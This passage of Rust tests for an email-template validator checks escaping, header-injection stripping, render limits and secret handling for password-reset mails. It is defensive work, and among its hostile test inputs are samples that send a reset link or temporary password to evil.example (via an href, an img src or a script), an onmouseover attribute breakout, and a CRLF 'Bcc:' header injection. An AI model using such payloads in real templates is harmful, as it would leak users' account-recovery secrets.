                &ctx(MailKind::ResetLink, &[("name", evil)]),
            );
            assert!(r.html.contains("&lt;script&gt;"), "{lang:?}: {}", r.html);
            assert!(!r.html.contains("<script"), "{lang:?}: raw script in html");
            assert!(r.text.contains(evil), "{lang:?}: text part was altered");
        }
        // A value can't leave the href attribute either.
        let link = "https://id.example.org/r?token=x\" onmouseover=\"alert(1)";
        for lang in LANGS {
            let r = render_builtin(
                MailKind::ResetLink,
                lang,
                &ctx(MailKind::ResetLink, &[("reset_link", link)]),
            );
            assert!(!r.html.contains("\" onmouseover"), "{lang:?}: {}", r.html);
            assert!(r.text.contains(link));
        }
    }

    #[test]
    fn subject_stays_on_one_line() {
        let r = render(
            &src("Hi {{ name }}", "x", "x"),
            &serde_json::json!({ "name": "Eve\r\nBcc: x@y.org" }),
        )
        .unwrap();
        assert!(!r.subject.contains(['\r', '\n']), "{:?}", r.subject);
        assert_eq!(r.subject, "Hi Eve Bcc: x@y.org");

        let r = render(
            &src("Hi {{ name }}", "x", "x"),
            &serde_json::json!({ "name": "a\nb\u{85}c\u{2028}d\u{2029}e\u{b}f\u{c}g\rh" }),
        )
        .unwrap();
        assert_eq!(r.subject, "Hi a b c d e f g h");

        // The built-in subjects too, with a hostile tenant name.
        for kind in MailKind::ALL {
            for lang in LANGS {
                let r = render_builtin(
                    kind,
                    lang,
                    &ctx(
                        kind,
                        &[
                            ("tenant_name", "Acme\r\nBcc: x@y.org\r\n"),
                            ("name", "Eve\nX-Header: 1"),
                        ],
                    ),
                );
                assert!(
                    !r.subject
                        .chars()
                        .any(|c| c.is_control() || c == '\u{2028}' || c == '\u{2029}'),
                    "{} {lang:?}: {:?}",
                    kind.as_str(),
                    r.subject
                );
            }
        }
    }

    /// Renders on another thread and gives up after a while, so that a missing fuel limit
    /// fails the test instead of hanging it (the runaway thread dies with the test process).
    fn render_within(source: TemplateSource, secs: u64) -> Result<Rendered, TemplateError> {
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send(render(&source, &serde_json::json!({})));
        });
        rx.recv_timeout(std::time::Duration::from_secs(secs))
            .unwrap_or_else(|_| panic!("rendering ran for more than {secs} s"))
    }

    #[test]
    fn rendering_is_bounded_by_fuel() {
        // Too big a range is refused outright…
        let huge = "{% for i in range(100000000) %}x{% endfor %}";
        assert!(render_within(src("x", huge, "x"), 10).is_err());
        // …and loops the range limit allows still run out of fuel instead of running for hours.
        let nested =
            "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}";
        for (source, part) in [
            (src(nested, "x", "x"), "subject"),
            (src("x", nested, "x"), "text"),
            (src("x", "x", nested), "html"),
        ] {
            let e = render_within(source, 10).unwrap_err();
            assert_eq!(e.part, part);
            assert!(e.message.contains("fuel"), "{e}");
        }
        let recursive = "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}";
        assert!(render_within(src("x", recursive, "x"), 10).is_err());
    }

    #[test]
    fn templates_cannot_load_other_templates() {
        for source in [
            "{% include 'x' %}",
            "{% include '/etc/passwd' %}",
            "{% extends 'base.html' %}",
            "{% import 'x' as m %}",
            "{% from 'x' import y %}",
        ] {
            assert!(
                render(&src("x", source, "x"), &serde_json::json!({})).is_err(),
                "{source} rendered"
            );
            assert!(
                render(&src("x", "x", source), &serde_json::json!({})).is_err(),
                "{source} rendered"
            );
        }
    }

    #[test]
    fn notices_say_what_to_do_and_carry_no_secrets() {
        for kind in [MailKind::PasswordChanged, MailKind::ResetEmailChanged] {
            for lang in LANGS {
                let what = format!("{} {lang:?}", kind.as_str());
                // Even if the caller passed a secret along by mistake, a notice doesn't show it.
                let data = ctx(
                    kind,
                    &[
                        ("temporary_password", "EXAMPLE-PASSWORD"),
                        (
                            "reset_link",
                            "https://id.example.org/t/example/reset?token=EXAMPLE",
                        ),
                    ],
                );
                let r = render_builtin(kind, lang, &data);
                for (part, out) in all_parts(&r) {
                    assert!(
                        !out.contains("EXAMPLE-PASSWORD"),
                        "{what} {part}: contains a password"
                    );
                    assert!(!out.contains("token="), "{what} {part}: contains a token");
                }
                let text = &r.text;
                match kind {
                    // What to do if it wasn't you: reset the password.
                    MailKind::PasswordChanged => {
                        let forgot = sample(kind, "forgot_link");
                        assert!(
                            text.contains(&forgot),
                            "{what}: text lacks the forgot-password link"
                        );
                        assert!(
                            r.html.contains(&esc(&forgot)),
                            "{what}: html lacks the forgot-password link"
                        );
                        assert!(text.contains(&sample(kind, "changed_at")));
                        assert!(text.contains(&sample(kind, "ip")));
                    }
                    // What to do if it wasn't you: tell the administrator, and sign in if still
                    // possible. Not "reset your password": reset links now go to the new address.
                    MailKind::ResetEmailChanged => {
                        let login = sample(kind, "login_link");
                        assert!(text.contains(&login), "{what}: text lacks the login link");
                        assert!(
                            r.html.contains(&esc(&login)),
                            "{what}: html lacks the login link"
                        );
                        assert!(
                            !text.contains(&sample(kind, "forgot_link")),
                            "{what}: sends the user to a reset that mails the new address"
                        );
                        assert!(text.contains(&sample(kind, "new_address")));
                        assert!(text.contains(&sample(kind, "changed_at")));
                    }
                    _ => unreachable!(),
                }
                assert!(
                    text.to_lowercase().contains("administra"),
                    "{what}: doesn't say to tell the administrator"
                );
            }
        }
    }

    #[test]
    fn only_the_temporary_password_mail_contains_a_password() {
        for kind in MailKind::ALL {
            for lang in LANGS {
                let what = format!("{} {lang:?}", kind.as_str());
                let data = ctx(
                    kind,
                    &[
                        ("temporary_password", "EXAMPLE-PASSWORD"),
                        (
                            "reset_link",
                            "https://id.example.org/t/example/reset?token=EXAMPLE",
                        ),
                        ("identifier", "TYPED-IDENTIFIER"),
                        ("typed_identifier", "TYPED-IDENTIFIER"),
                    ],
                );
                let r = render_builtin(kind, lang, &data);
                for (part, out) in all_parts(&r) {
                    assert_eq!(
                        out.contains("EXAMPLE-PASSWORD"),
                        kind == MailKind::TemporaryPassword && part != "subject",
                        "{what} {part}: password shown or missing"
                    );
                    if !matches!(kind, MailKind::ResetLink | MailKind::AdminResetLink)
                        || part == "subject"
                    {
                        assert!(
                            !out.contains("token="),
                            "{what} {part}: contains a reset token"
                        );
                    }
                    assert!(
                        !out.contains("TYPED-IDENTIFIER"),
                        "{what} {part}: contains the typed identifier"
                    );
                }
            }
        }
    }

    #[test]
    fn support_line_appears_only_when_set() {
        for kind in MailKind::ALL {
            for lang in LANGS {
                let what = format!("{} {lang:?}", kind.as_str());
                let without =
                    render_builtin(kind, lang, &ctx(kind, &[("support", ""), ("ip", "")]));
                for (part, out) in all_parts(&without) {
                    assert!(
                        !out.contains("()") && !out.contains(" .") && !out.contains(" ,"),
                        "{what} {part}: empty value left a gap:\n{out}"
                    );
                    assert!(!out.contains("\n\n\n"), "{what} {part}: stray blank lines");
                }
                assert!(!without.text.contains("IP"), "{what}: empty IP line");
                if kind != MailKind::SmtpTest {
                    let with = render_builtin(
                        kind,
                        lang,
                        &ctx(kind, &[("support", "helpdesk@example.org")]),
                    );
                    assert!(
                        with.text.contains("helpdesk@example.org"),
                        "{what}: text lacks the support contact"
                    );
                    assert!(
                        with.html.contains(&esc("helpdesk@example.org")),
                        "{what}: html lacks the support contact"
                    );
                }
            }
        }
    }

    #[test]
    fn builtin_html_is_plain_markup() {
        const ALLOWED: [&str; 5] = ["p", "a", "strong", "br", "small"];
        for kind in MailKind::ALL {
            for lang in LANGS {
                let what = format!("{} {lang:?}", kind.as_str());
                let t = builtin(kind, lang);
                for (part, s) in [
                    ("subject", &t.subject),
                    ("text", &t.text),
                    ("html", &t.html),
                ] {
                    assert!(
                        !s.contains("|safe") && !s.contains("| safe"),
                        "{what} {part}: bypasses escaping"
                    );
                    assert!(
                        !s.contains("autoescape"),
                        "{what} {part}: switches escaping"
                    );
                    assert!(
                        !s.contains("http://") && !s.contains("https://"),
                        "{what} {part}: hard-coded URL"
                    );
                }
                // Every tag is a bare allowed element; the only attribute is an `href` that
                // points at a link variable (no style, class, src or event handlers).
                let html = &t.html;
                for tag in html.split('<').skip(1) {
                    let tag = tag.split('>').next().unwrap();
                    let (name, attrs) = tag
                        .trim_start_matches('/')
                        .split_once(' ')
                        .unwrap_or((tag.trim_start_matches('/'), ""));
                    assert!(ALLOWED.contains(&name), "{what}: tag <{tag}> not allowed");
                    let links = [
                        "{{ reset_link }}",
                        "{{ login_link }}",
                        "{{ forgot_link }}",
                        "{{ request_link }}",
                    ];
                    let href_ok =
                        name == "a" && links.iter().any(|l| attrs == format!("href=\"{l}\""));
                    assert!(attrs.is_empty() || href_ok, "{what}: attributes in <{tag}>");
                }
                if let Some(var) = kind.secret_variable().filter(|v| *v == "reset_link") {
                    // One link, plus the URL printed for clients that strip links.
                    assert_eq!(html.matches("<a ").count(), 1, "{what}: more than one link");
                    assert!(html.contains("<a href=\"{{ reset_link }}\">"), "{what}");
                    let r = render_builtin(kind, lang, &sample_data(kind));
                    assert!(
                        r.html.matches(&esc(&sample(kind, var))).count() >= 2,
                        "{what}: URL not printed as text"
                    );
                }
            }
        }
    }

    #[test]
    fn secret_and_required_variables_are_consistent() {
        for kind in MailKind::ALL {
            let known = known_variables(kind);
            for var in kind
                .secret_variables()
                .iter()
                .chain(kind.required_variables())
            {
                assert!(
                    known.iter().any(|k| k == var),
                    "{}: `{var}` has no sample value",
                    kind.as_str()
                );
                assert!(!describe_variable(var).is_empty(), "{var}: no description");
            }
            if let Some(var) = kind.secret_variable() {
                assert!(kind.secret_variables().contains(&var), "{}", kind.as_str());
                assert_eq!(kind.required_variables(), &[var], "{}", kind.as_str());
            }
            for var in &known {
                assert!(!describe_variable(var).is_empty(), "{var}: no description");
            }
        }
        assert_eq!(MailKind::Campaign.secret_variables(), &["reset_link"]);
        assert!(!MailKind::SmtpTest.editable());
        assert!(MailKind::ALL
            .iter()
            .filter(|k| **k != MailKind::SmtpTest)
            .all(|k| k.editable()));
    }

    #[test]
    fn campaigns_need_a_reset_link_or_a_request_link() {
        for (text, html) in [
            ("{{ reset_link }}", "<a href=\"{{ reset_link }}\">x</a>"),
            ("{{ request_link }}", "<p>{{ request_link }}</p>"),
            ("{{ reset_link }}", "<p>{{ request_link }}</p>"),
        ] {
            validate(MailKind::Campaign, &src("Hi {{ name }}", text, html))
                .unwrap_or_else(|e| panic!("{text} / {html}: {e}"));
        }
        let e = validate(
            MailKind::Campaign,
            &src("Hi", "{{ login_link }}", "<p>{{ request_link }}</p>"),
        )
        .unwrap_err();
        assert_eq!(e.part, "text");
        assert!(
            e.message.contains("{{ reset_link }}") && e.message.contains("{{ request_link }}"),
            "{e}"
        );
        // A campaign's reset link is a secret: masked like the other kinds' secrets.
        assert!(uses_secret(
            MailKind::Campaign,
            &src("x", "{{ reset_link }}", "{{ reset_link }}")
        ));
        assert!(!uses_secret(
            MailKind::Campaign,
            builtin(MailKind::Campaign, Language::En)
        ));
        assert!(uses_secret(
            MailKind::ResetLink,
            builtin(MailKind::ResetLink, Language::De)
        ));
        assert!(!uses_secret(
            MailKind::PasswordChanged,
            &src("x", "{{ reset_link }}", "x")
        ));
    }

    #[test]
    fn the_placeholder_must_really_be_printed() {
        let html = "<a href=\"{{ reset_link }}\">reset</a>";
        for text in [
            "Open {# {{ reset_link }} #} the link",
            "Open reset_link",
            "Open {{ '{{ reset_link }}' }}",
            "{% if reset_link %}Open the link{% endif %}",
        ] {
            let e = validate(MailKind::ResetLink, &src("Reset", text, html))
                .expect_err(&format!("{text:?} was accepted"));
            assert_eq!(e.part, "text", "{text:?}: {e}");
        }
        // A misspelt variable is unknown, not a placeholder.
        let e = validate(
            MailKind::ResetLink,
            &src("Reset", "Open {{ reset_links }}", html),
        )
        .unwrap_err();
        assert_eq!(e.part, "text");
        assert!(e.message.contains("unknown variable `reset_links`"), "{e}");
        // Filters and whitespace control are fine.
        validate(
            MailKind::ResetLink,
            &src("Reset", "Open {{- reset_link|trim -}}", html),
        )
        .unwrap();
    }

    #[test]
    fn only_the_kinds_variables_may_be_used() {
        let ok_html = "<p>{{ temporary_password }}</p>";
        for (subject, text) in [
            ("Hi {{ nmae }}", "{{ temporary_password }}"),
            ("Hi", "{{ temporary_password }} {{ reset_link }}"),
            (
                "Hi",
                "{{ temporary_password }} {% if request_link %}x{% endif %}",
            ),
            (
                "Hi",
                "{{ temporary_password }} {{ name|default(secret_value) }}",
            ),
        ] {
            let e = validate(MailKind::TemporaryPassword, &src(subject, text, ok_html))
                .expect_err(&format!("{subject:?} / {text:?} was accepted"));
            assert!(e.message.contains("unknown variable"), "{e}");
        }
        validate(
            MailKind::TemporaryPassword,
            &src(
                "Hi {{ name|default('there') }} ({{ tenant_name|upper }})",
                "{{ temporary_password }} valid for {{ valid_for }}",
                ok_html,
            ),
        )
        .unwrap();
    }

    #[test]
    fn secrets_stay_out_of_the_subject() {
        for (kind, var) in [
            (MailKind::ResetLink, "reset_link"),
            (MailKind::TemporaryPassword, "temporary_password"),
            (MailKind::Campaign, "reset_link"),
        ] {
            let body = format!("{{{{ {var} }}}}");
            let e = validate(kind, &src(&format!("Your {body}"), &body, &body)).unwrap_err();
            assert_eq!(e.part, "subject", "{}: {e}", kind.as_str());
        }
    }

    #[test]
    fn parts_have_length_limits() {
        let body = "{{ reset_link }}";
        let long_subject = "x".repeat(MAX_SUBJECT_CHARS + 1);
        let e = validate(MailKind::ResetLink, &src(&long_subject, body, body)).unwrap_err();
        assert_eq!(e.part, "subject");
        // Characters, not bytes.
        validate(
            MailKind::ResetLink,
            &src(&"ü".repeat(MAX_SUBJECT_CHARS), body, body),
        )
        .unwrap();
        let long_body = format!("{body}{}", "x".repeat(MAX_BODY_CHARS));
        let e = validate(MailKind::ResetLink, &src("x", &long_body, body)).unwrap_err();
        assert_eq!(e.part, "text");
        let e = validate(MailKind::ResetLink, &src("x", body, &long_body)).unwrap_err();
        assert_eq!(e.part, "html");
        assert!(e.message.contains("20000"), "{e}");
        let max_body = format!("{body}{}", "x".repeat(MAX_BODY_CHARS - body.len()));
        validate(MailKind::ResetLink, &src("x", &max_body, &max_body)).unwrap();
    }

    #[test]
    fn only_printing_and_if_are_allowed() {
        let good = "{{ reset_link }}";
        let refused = [
            "{{ reset_link }}{{ 'x' * 100000000 }}",
            "{{ reset_link }}{{ name * 3 }}",
            "{{ reset_link ~ reset_link }}",
            "{{ reset_link + name }}",
            "{{ reset_link }}{{ 1 - 2 }}",
            "{{ reset_link }}{{ 4 / 2 }}",
            "{{ reset_link }}{{ '%s' % name }}",
            "{{ reset_link }}{% for i in range(3) %}x{% endfor %}",
            "{{ reset_link }}{% set x = name %}",
            "{% set x %}{{ reset_link }}{% endset %}{{ reset_link }}",
            "{{ reset_link }}{% macro m() %}x{% endmacro %}",
            "{{ reset_link }}{% filter upper %}x{% endfilter %}",
            "{{ reset_link }}{% with x = name %}{{ x }}{% endwith %}",
            "{{ reset_link }}{% raw %}x{% endraw %}",
            "{{ reset_link }}{% autoescape false %}{{ name }}{% endautoescape %}",
            "{{ reset_link }}{% include 'x' %}",
            "{{ reset_link }}{{ name|safe }}",
            "{{ reset_link }}{{ name|replace('a', 'bbbbbbbb') }}",
            "{{ reset_link }}{{ name|center(1000000) }}",
            "{{ reset_link }}{{ range(10) }}",
            "{{ reset_link }}{{ debug() }}",
            "{{ reset_link }}{{ name() }}",
            "{{ reset_link }}{{ name.upper() }}",
            "{{ reset_link }}{{ name[0] }}",
            "{{ reset_link }}{{ [name, name] }}",
            "{{ reset_link }}{{ {'a': name} }}",
            "{{ reset_link }}{% if name is divisibleby(3) %}x{% endif %}",
            "{{ reset_link }}{% if name is startingwith('a') %}x{% endif %}",
            "{{ reset_link }}{{ name|default(x=1) }}",
            "{{ reset_link }}{% if name|length > 3 %}x{% endif %}",
        ];
        for source in refused {
            for (template, part) in [
                (src("x", source, good), "text"),
                (src("x", good, source), "html"),
            ] {
                let e = validate(MailKind::ResetLink, &template)
                    .expect_err(&format!("{source:?} was accepted"));
                assert_eq!(e.part, part, "{source:?}: {e}");
            }
        }
        let e = validate(MailKind::ResetLink, &src("{{ name * 2 }}", good, good)).unwrap_err();
        assert_eq!(e.part, "subject");
        assert!(e.message.contains("`*`"), "{e}");
        let e = validate(
            MailKind::ResetLink,
            &src("x", "{{ reset_link|safe }}", good),
        )
        .unwrap_err();
        assert!(e.message.contains("safe"), "{e}");
        let e = validate(
            MailKind::ResetLink,
            &src("x", "{% for x in name %}{% endfor %}{{ reset_link }}", good),
        )
        .unwrap_err();
        assert!(e.message.contains("{% for %}"), "{e}");

        let allowed = [
            "{{ reset_link }}",
            "{# anything goes in a comment: {{ 'x' * 100000000 }} {% for %} #}{{ reset_link }}",
            "{{ \"a }} b * c ~ d\" }}{{ reset_link }}",
            "{{ 'it\\'s' }}{{ reset_link }}",
            "{%- if support -%} {{ support }} {%- elif username %}{{ username }}{% else %}none{% endif %}{{ reset_link }}",
            "{% if name == 'Alex' and not (valid_for != '1 hour') or username in name %}x{% endif %}{{ reset_link }}",
            "{% if support is defined and support is not none %}x{% endif %}{{ reset_link }}",
            "{{ name|default('friend', true)|title }}{{ reset_link }}",
            "{{ name if support else username }}{{ reset_link }}",
            "Braces { alone } and 100% are text.{{ reset_link }}",
        ];
        for source in allowed {
            validate(MailKind::ResetLink, &src("x", source, source))
                .unwrap_or_else(|e| panic!("{source:?} refused: {e}"));
        }
    }

    #[test]
    fn validate_renders_with_sample_data() {
        // Parses and uses only allowed syntax, but fails when rendered: caught at save time.
        let e = validate(
            MailKind::ResetLink,
            &src(
                "x",
                "{{ reset_link }}{{ name|title(1, 2) }}",
                "{{ reset_link }}",
            ),
        )
        .unwrap_err();
        assert_eq!(e.part, "text");
    }

    #[test]
    fn rendered_output_is_capped() {
        // Built-in and campaign templates aren't restricted like saved ones, but their output is.
        let big = format!("{{{{ 'x' * {} }}}}", MAX_OUTPUT_BYTES + 1);
        for (source, part) in [
            (src(&big, "x", "x"), "subject"),
            (src("x", &big, "x"), "text"),
            (src("x", "x", &big), "html"),
        ] {
            let e = render(&source, &serde_json::json!({})).unwrap_err();
            assert_eq!(e.part, part);
            assert!(e.message.contains("larger than 100 KB"), "{e}");
        }
        let just = format!("{{{{ 'x' * {} }}}}", MAX_OUTPUT_BYTES);
        let r = render(&src("x", &just, "x"), &serde_json::json!({})).unwrap();
        assert_eq!(r.text.len(), MAX_OUTPUT_BYTES);
        // Doubling a value in a loop stops at the cap (or the fuel), not at the memory limit.
        let doubling = "{% set s = namespace(v='xxxxxxxxxxxxxxxx') %}{% for i in range(64) %}\
                        {% set s.v = s.v ~ s.v %}{{ s.v }}{% endfor %}";
        assert!(render_within(src("x", doubling, "x"), 10).is_err());
    }

    #[test]
    fn secrets_can_not_be_sent_elsewhere_from_the_html_part() {
        let ok = TemplateSource {
            subject: "Reset".into(),
            text: "{{ reset_link }}".into(),
            html:
                "<p><a href=\"{{ reset_link }}\">Choose a new password</a><br>{{ reset_link }}</p>"
                    .into(),
        };
        assert!(validate(MailKind::ResetLink, &ok).is_ok());
        for html in [
            "<p><a href=\"https://evil.example/?x={{ reset_link }}\">x</a></p>",
            "<p><img src=\"https://evil.example/{{ reset_link }}\"></p>",
            "<p title=\"{{ reset_link }}\">{{ reset_link }}</p>",
            "<script>new Image().src='https://evil.example/'+'{{ reset_link }}'</script>",
            "<p style=\"background:url(https://evil.example)\">{{ reset_link }}</p><style>p{}</style>",
        ] {
            let bad = TemplateSource { html: html.into(), ..ok.clone() };
            assert!(validate(MailKind::ResetLink, &bad).is_err(), "{html}");
        }
        let temp_ok = TemplateSource {
            subject: "x".into(),
            text: "{{ temporary_password }}".into(),
            html: "<p><strong>{{ temporary_password }}</strong></p>".into(),
        };
        assert!(validate(MailKind::TemporaryPassword, &temp_ok).is_ok());
        let temp_bad = TemplateSource {
            html: "<p><a href=\"https://evil.example/{{ temporary_password }}\">x</a></p>".into(),
            ..temp_ok
        };
        assert!(validate(MailKind::TemporaryPassword, &temp_bad).is_err());
    }
}
